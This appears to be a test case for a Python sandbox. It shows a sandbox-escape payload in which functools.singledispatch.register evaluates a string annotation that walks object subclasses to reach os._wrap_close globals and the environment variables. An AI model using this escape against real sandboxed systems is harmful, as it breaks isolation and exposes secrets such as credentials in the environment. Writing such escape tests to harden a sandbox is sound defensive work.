# x03_singledispatch_annotation [escape]: singledispatch.register evaluates annotation strings without the policy
import functools


def solver(n1, n2):
    @functools.singledispatch
    def f(x):
        return x

    @f.register
    def g(
        x: "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['environ']",
    ):
        return 1

    return "no"
